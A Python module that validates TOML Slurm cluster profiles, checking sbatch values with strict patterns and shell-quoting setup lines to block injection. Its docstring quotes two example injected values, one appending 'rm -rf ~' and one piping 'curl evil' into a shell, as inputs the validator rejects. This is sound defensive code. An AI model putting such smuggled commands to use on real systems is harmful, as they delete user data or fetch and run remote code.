"""Cluster profiles: the site-specific half of a Slurm launch (account, partition, setup).

A profile is a TOML file (tomllib; see slurm/profiles/example.toml). It is deliberately
*structured*: there is no free-form "setup lines" field. Modules, the virtualenv, the working
directory and environment variables are separate typed fields, validated here and rendered
with ``shlex.quote`` by ``setup_lines``; sbatch directive values (partition, account, ...) must
match a conservative character set. So a value such as ``partition = "gpu\\nrm -rf ~"`` or
``account = "a; curl evil | sh"`` is a ConfigError at load time instead of a line of shell in
a script that runs on 32 nodes.
"""

from __future__ import annotations

import re
import shlex
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import tomllib

from canzona.errors import ConfigError

# sbatch directive values: names, numbers, lists and simple Slurm expressions, never whitespace,
# quotes, `;`, `$`, backticks or newlines.
_DIRECTIVE = re.compile(r"^[A-Za-z0-9_.,:@+=/-]{1,128}$")
# --constraint additionally allows Slurm's feature expressions (&, |, [], *, !).
_CONSTRAINT = re.compile(r"^[A-Za-z0-9_.,:@+=/&|\[\]*!-]{1,256}$")
_MEM = re.compile(r"^[0-9]+[KMGT]?$")
_MODULE = re.compile(r"^[A-Za-z0-9_.+/@-]{1,128}$")
_ENV_KEY = re.compile(r"^[A-Za-z_][A-Za-z0-9_]{0,63}$")
_CONTROL = re.compile(r"[\x00-\x1f\x7f]")
# Variables the launcher itself sets per rank; a profile must not override them.
_RESERVED_ENV = {
    "RANK",
    "WORLD_SIZE",
    "LOCAL_RANK",
    "LOCAL_WORLD_SIZE",
    "MASTER_ADDR",
    "MASTER_PORT",
    "GROUP_RANK",
    "NODE_RANK",
}

_SPEC: dict[str, tuple[type | tuple[type, ...], bool]] = {
    "name": (str, False),
    "partition": (str, True),
    "gpus_per_node": (int, True),
    "account": (str, False),
    "qos": (str, False),
    "constraint": (str, False),
    "cpus_per_task": (int, False),
    "mem": (str, False),
    "exclusive": (bool, False),
    "time_min": (int, False),
    "array_parallelism": (int, False),
    "max_num_timeout": (int, False),
    "signal_delay_s": (int, False),
    "requeue": (bool, False),
    "modules": (list, False),
    "venv": (str, False),
    "workdir": (str, False),
    "env": (dict, False),
    "python": (str, False),
    "rdzv_port": (int, False),
}


@dataclass(frozen=True)
class ClusterProfile:
    """A validated cluster profile; every field is safe to render (see ``setup_lines``)."""

    partition: str
    gpus_per_node: int
    name: str = "cluster"
    account: str | None = None
    qos: str | None = None
    constraint: str | None = None
    cpus_per_task: int | None = None
    mem: str | None = None
    exclusive: bool = True
    time_min: int = 60
    array_parallelism: int = 4
    max_num_timeout: int = 2
    signal_delay_s: int = 120
    requeue: bool = True
    modules: tuple[str, ...] = ()
    venv: str | None = None
    workdir: str | None = None
    env: tuple[tuple[str, str], ...] = field(default=())
    python: str | None = None
    rdzv_port: int = 29500
    source: str = field(default="", compare=False)

    def nodes_for(self, world: int) -> int:
        """Nodes for ``world`` ranks; a ConfigError when GPUs per node does not divide it,
        because a partial node would leave ranks without a GPU or GPUs without a rank."""
        if world % self.gpus_per_node:
            raise ConfigError(
                f"{self.source or 'profile'}: gpus_per_node = {self.gpus_per_node} does not divide the world size "
                f"{world}; use a world that is a multiple of {self.gpus_per_node} or fix gpus_per_node"
            )
        return world // self.gpus_per_node

    def setup_lines(self) -> list[str]:
        """Shell lines run in the sbatch script before srun; every value is shlex-quoted."""
        lines: list[str] = []
        if self.modules:
            lines.append("module load " + " ".join(shlex.quote(m) for m in self.modules))
        if self.venv:
            lines.append("source " + shlex.quote(str(Path(self.venv) / "bin" / "activate")))
        if self.workdir:
            lines.append("cd " + shlex.quote(self.workdir))
        for k, v in self.env:
            lines.append(f"export {k}={shlex.quote(v)}")
        return lines


def _check_directive(where: str, key: str, value: str, pattern: re.Pattern[str] = _DIRECTIVE) -> str:
    if not pattern.match(value):
        raise ConfigError(
            f"{where}: {key} = {value!r} contains characters that are not allowed in an sbatch directive "
            f"(allowed: {pattern.pattern}); shell text in a profile is refused, use the value Slurm expects"
        )
    return value


def _check_text(where: str, key: str, value: str) -> str:
    if not value or _CONTROL.search(value):
        raise ConfigError(f"{where}: {key} must be a non-empty single line without control characters, got {value!r}")
    return value


def parse_profile(data: dict[str, Any], source: str = "<profile>") -> ClusterProfile:
    """Validate a parsed profile document (the ``[cluster]`` table)."""
    if set(data) != {"cluster"}:
        raise ConfigError(
            f"{source}: a profile holds exactly one [cluster] table (found: {', '.join(data) or 'nothing'})"
        )
    t = data["cluster"]
    where = f"{source} [cluster]"
    if "partition" not in t:
        raise ConfigError(
            f"{where}: missing required key 'partition' (the Slurm partition to submit to, e.g. partition = \"gpu\")"
        )
    unknown = sorted(set(t) - set(_SPEC))
    if unknown:
        raise ConfigError(f"{where}: unknown key(s) {', '.join(unknown)}; allowed: {', '.join(_SPEC)}")
    for key, (types, required) in _SPEC.items():
        if required and key not in t:
            raise ConfigError(f"{where}: missing required key {key!r}")
        if key in t:
            v = t[key]
            if (isinstance(v, bool) and types is not bool) or not isinstance(v, types):
                names = types.__name__ if isinstance(types, type) else "/".join(x.__name__ for x in types)
                raise ConfigError(f"{where}: {key} must be {names}, got {v!r}")
    kw: dict[str, Any] = {"source": source}
    kw["partition"] = _check_directive(where, "partition", t["partition"])
    for key in ("account", "qos"):
        if key in t:
            kw[key] = _check_directive(where, key, t[key])
    if "name" in t:
        kw["name"] = _check_directive(where, "name", t["name"])
    if "constraint" in t:
        kw["constraint"] = _check_directive(where, "constraint", t["constraint"], _CONSTRAINT)
    if "mem" in t:
        kw["mem"] = _check_directive(where, "mem", t["mem"], _MEM)
    for key in ("gpus_per_node", "cpus_per_task", "time_min", "array_parallelism", "signal_delay_s", "rdzv_port"):
        if key in t:
            if t[key] < 1:
                raise ConfigError(f"{where}: {key} must be >= 1, got {t[key]}")
            kw[key] = t[key]
    if "rdzv_port" in t and not 1024 <= t["rdzv_port"] <= 64535:
        raise ConfigError(
            f"{where}: rdzv_port must lie in [1024, 64535] (the launcher adds up to 1000), got {t['rdzv_port']}"
        )
    if "max_num_timeout" in t:
        if t["max_num_timeout"] < 0:
            raise ConfigError(f"{where}: max_num_timeout must be >= 0, got {t['max_num_timeout']}")
        kw["max_num_timeout"] = t["max_num_timeout"]
    for key in ("exclusive", "requeue"):
        if key in t:
            kw[key] = t[key]
    if "modules" in t:
        mods = t["modules"]
        if not all(isinstance(m, str) for m in mods):
            raise ConfigError(f"{where}: modules must be a list of module names")
        for m in mods:
            if not _MODULE.match(m):
                raise ConfigError(
                    f"{where}: module name {m!r} is not a plain module name (allowed: {_MODULE.pattern}); "
                    "list one module per entry, no shell"
                )
        kw["modules"] = tuple(mods)
    for key in ("venv", "workdir", "python"):
        if key in t:
            kw[key] = _check_text(where, key, t[key])
    if "env" in t:
        env = []
        for k, v in t["env"].items():
            if not _ENV_KEY.match(k):
                raise ConfigError(f"{where}: env key {k!r} is not a shell variable name (allowed: {_ENV_KEY.pattern})")
            if k in _RESERVED_ENV:
                raise ConfigError(f"{where}: env key {k} is set per rank by the launcher (torchrun); remove it")
            if isinstance(v, bool) or not isinstance(v, (str, int, float)):
                raise ConfigError(f"{where}: env.{k} must be a string or number, got {v!r}")
            env.append((k, _check_text(where, f"env.{k}", str(v))))
        kw["env"] = tuple(env)
    return ClusterProfile(**kw)


def read_toml(p: Path, missing: str) -> dict[str, Any]:
    """A TOML file's table, or ConfigError: ``missing`` when absent, the parser's reason when malformed."""
    if not p.is_file():
        raise ConfigError(missing)
    try:
        return tomllib.loads(p.read_text())
    except tomllib.TOMLDecodeError as exc:
        raise ConfigError(f"{p}: not valid TOML ({exc})") from None


def load_profile(path: str | Path) -> ClusterProfile:
    """Read and validate a cluster profile (TOML). ConfigError names the file and the key."""
    p = Path(path)
    if p.suffix.lower() in (".yaml", ".yml"):
        raise ConfigError(
            f"{p}: profiles are TOML (read with the standard library's tomllib); "
            "copy slurm/profiles/example.toml and fill it in"
        )
    data = read_toml(p, f"cluster profile {p} not found; copy slurm/profiles/example.toml and fill it in")
    return parse_profile(data, str(p))
